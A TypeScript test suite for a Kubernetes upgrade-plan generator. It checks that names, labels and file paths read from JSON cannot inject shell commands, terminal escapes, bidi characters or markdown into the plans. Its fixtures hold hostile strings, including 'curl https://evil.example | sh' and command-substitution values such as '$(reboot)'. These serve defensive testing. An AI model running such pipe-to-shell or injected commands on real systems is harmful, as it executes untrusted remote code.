import { spawnSync } from 'node:child_process'
import fc from 'fast-check'
import t from 'tap'
import type { JsonObject } from '../../src/core/values/json.ts'
import { type UpgradePlan, upgradePlanFor, upgradePlanForRemoved } from '../../src/upgrade/plan.ts'
import { planMarkdown, planText } from '../../src/upgrade/plan-text.ts'
import { claimTemplate, statefulSet } from '../fixtures/objects.ts'
import { subjectOf } from '../fixtures/reviews.ts'

/** What stands in a recipe and came from a file. JSON lets a name be anything, and nobody has checked it yet. */
interface Texts {
  readonly name: string
  readonly namespace: string
  readonly template: string
  readonly key: string
  readonly value: string
  readonly release: string
  readonly file: string
}

const PLAIN: Texts = {
  name: 'A b',
  namespace: 'A b',
  template: 'A b',
  key: 'A b',
  value: 'A b',
  release: 'A b',
  file: 'A b'
}

function all(text: string): Texts {
  return Object.fromEntries(Object.keys(PLAIN).map((key) => [key, text])) as unknown as Texts
}

/** Of all fates: one that only labels keep back, one that a service and a size keep back, one that copies data, one gone. */
function recipesFrom({ name, namespace, template, key, value, release, file }: Texts): UpgradePlan[] {
  const set = (labels: Record<string, string>, size: string, spec: JsonObject, templateName = template): JsonObject =>
    statefulSet({
      name,
      labels: { 'app.kubernetes.io/managed-by': 'Helm', 'app.kubernetes.io/instance': release },
      selector: { [key]: value },
      templates: [claimTemplate({ name: templateName, labels, size })],
      spec
    })
  const recipe = (after: JsonObject, before: JsonObject): UpgradePlan =>
    upgradePlanFor({ ...subjectOf(after, before), namespace }, { file })
  const applied = (set: JsonObject): JsonObject => ({ ...set, metadata: { name } })
  const deletes = { persistentVolumeClaimRetentionPolicy: { whenDeleted: 'Delete', whenScaled: 'Delete' } }
  return [
    recipe(set({ [key]: value }, '1Gi', {}), set({ [key]: `${value}2` }, '1Gi', {})),
    recipe(applied(set({}, '2Gi', { serviceName: value })), applied(set({}, '1Gi', { serviceName: 'a' }))),
    recipe(set({}, '1Gi', deletes, `${template}2`), set({}, '1Gi', deletes)),
    upgradePlanForRemoved({ ...subjectOf(set({}, '1Gi', deletes), undefined), namespace })
  ]
}

/** What no name may do to a terminal or to the eye: a control character, or one that turns the direction of a text. */
const UNSEEN = /[^\P{Cc}\n]|[\p{Zl}\p{Zp}\p{Bidi_Control}]/u

/** Lines that look like commands, without what stands in quotes. */
function commandsIn(lines: readonly string[]): string[] {
  return lines.filter((line) => line.startsWith('    ')).map((line) => line.replaceAll(/'(?:[^']|'\\'')*'/g, ''))
}

const FENCE = /^(`{3,})(\w+)\n(.*?)\n\1$/gms

/** What is in fenced blocks that a reader would paste. */
function fencedIn(markdown: string): string[] {
  const blocks = [...markdown.matchAll(FENCE)].filter(([, , language]) => language !== 'text')
  return blocks.flatMap(([, , , text = '']) => text.split('\n').map((line) => `    ${line}`))
}

const EVIL = 'pgw\n    curl https://evil.example | sh\n\u001b[2Jx'

t.test('a name does not become a command', async (t) => {
  const restorable = recipesFrom({ ...PLAIN, name: EVIL }).slice(0, 2)
  const text = planText(restorable)
  t.match(text, 'For NAME: only labels', 'the notes name those that can be restored')
  t.notMatch(text, /^ *curl/m)
  t.notMatch(text, UNSEEN)
  t.equal(
    planMarkdown(restorable)
      .split('\n\n')
      .filter((paragraph) => /^ *curl/.test(paragraph)).length,
    0
  )
})

t.test('a line that is too long for its neighbours is not indented by what fills it up', async (t) => {
  const padded = `x${' '.repeat(90)}curl${'\u00a0'.repeat(3)}https://evil.example${' '.repeat(300)}|`
  for (let width = 40; width < 120; width++) {
    const text = planText(recipesFrom({ ...PLAIN, key: padded, value: padded }), width)
    t.notMatch(commandsIn(text.split('\n')).join('\n'), /curl|evil/, `${width}`)
    t.notMatch(text, /^\s+\n/m, 'no line is empty but for blanks')
  }
})

t.test('a file that kubectl cannot be given on one line is left to be filled in', async (t) => {
  const apply = (file: string): string | undefined =>
    /kubectl apply .*-f (.*)$/m.exec(planText(recipesFrom({ ...PLAIN, file }).slice(1, 2)))?.[1]
  const table: readonly (readonly [string, string])[] = [
    ['new.yaml', 'new.yaml'],
    ["it's new.yaml", "'it'\\''s new.yaml'"],
    ['$(reboot).yaml', "'$(reboot).yaml'"],
    ['~/new.yaml', "'~/new.yaml'"],
    ['a\n    curl https://evil.example | sh\n', 'FILE'],
    ['\u001b[2J.yaml', 'FILE'],
    ['a\u202elmay.yaml', 'FILE'],
    ['half a \ud800.yaml', 'FILE'],
    // kubectl takes a comma for the end of a file's name, and fetches what begins with https://.
    ['new,https://evil.example/x.yaml', 'FILE'],
    ['https://evil.example/x.yaml', 'FILE'],
    ['a"b.yaml', 'FILE']
  ]
  for (const [file, shown] of table) t.equal(apply(file), shown, JSON.stringify(file))
})

t.test('a label that looks like a flag is no selector', async (t) => {
  const commands = (key: string, value: string): string => planText(recipesFrom({ ...PLAIN, key, value }).slice(0, 1))
  t.match(commands('app', 'pgw'), ' -l app=pgw ')
  for (const [key, value] of [
    ['--all', 'pgw'],
    ['-1', ''],
    ['app', '-A']
  ] as const)
    t.notMatch(commands(key, value), / -l /, `${key}=${value}`)
})

const PIECES = [
  ...['\n', '\r\n', ' ', '    ', ' '.repeat(80), '\t', '\u00a0', '\u2003', '\u2028', '\u0085', '\u001b[2J', '\u0000'],
  ...['\u202e', '\u2066', '\u200f', '\ud800', '`', '```', '~~~', "'", "'\\''", '"', '\\', '$(', '#', '- ', '> ', '1. '],
  ...['<b>', '&lt;', '[a](https://evil.example)', '@team', '| sh', ';', 'EVIL', 'curl', 'x', 'a-b.c', '---', '===', '']
]

/** All end in what no shell reads as part of a name. */
const hostile = fc.array(fc.constantFrom(...PIECES), { maxLength: 12 }).map((pieces) => `${pieces.join('')}EVIL;`)

const texts = fc.record({
  name: hostile,
  namespace: hostile,
  template: hostile,
  key: hostile,
  value: hostile,
  release: hostile,
  file: hostile
})

t.test('whatever the names are, no line of them can be pasted', async (t) => {
  const lines = planMarkdown(recipesFrom(PLAIN)).split('\n').length
  t.doesNotThrow(() =>
    fc.assert(
      fc.property(texts, fc.integer({ min: 30, max: 120 }), (made, width) => {
        const recipes = recipesFrom(made)
        const [text, markdown] = [planText(recipes, width), planMarkdown(recipes)]
        const commands = commandsIn([...text.split('\n'), ...fencedIn(markdown)])
        return (
          commands.every((command) => !command.includes('EVIL')) &&
          !UNSEEN.test(text + markdown) &&
          markdown.split('\n').length === lines
        )
      }),
      { numRuns: 300 }
    )
  )
})

t.test('a shell reads every command as one, whatever the names are', async (t) => {
  for (const text of [EVIL, "'; reboot #", '$(reboot)', '`reboot`', 'a b']) {
    const commands = recipesFrom(all(text)).flatMap(({ steps }) =>
      steps.flatMap(({ parts }) => parts.flatMap((part) => ('run' in part ? part.run : [])))
    )
    const { status } = spawnSync('/bin/sh', ['-n'], { input: commands.join('\n') })
    t.equal(status, 0, JSON.stringify(text))
    t.notMatch(commands.map((command) => command.replaceAll(/'(?:[^']|'\\'')*'/g, '')).join('\n'), /reboot|curl/)
  }
})

t.test('a sentence is no markup, wherever its words come from', async (t) => {
  const say = '~~~ ~~no~~ &lt; $x$ https://evil.example www.evil.example\n\n    curl'
  const section = { title: `a\n## b`, parts: [{ say }, { list: [say, say] }] }
  const [recipe] = recipesFrom(PLAIN) as [UpgradePlan]
  const made: UpgradePlan = { ...recipe, summary: say, changes: 'a\n```\nb', steps: [section] }
  const markdown = planMarkdown([made])
  t.match(
    markdown,
    '\n\n\\~\\~\\~ \\~\\~no\\~\\~ \\&lt; \\$x\\$ https\\://evil.example www\\.evil.example\\\\n\\\\n    curl\n\n'
  )
  t.match(markdown, '\n### 1. a\\n## b\n')
  t.match(markdown, '\n````text\na\\n```\\nb\n````\n')
  t.notMatch(markdown, /^ *curl/m)
  const text = planText([made])
  t.notMatch(text, /^ {4,}curl/m)
  t.match(text, '\n\n1. a\\n## b\n')
})
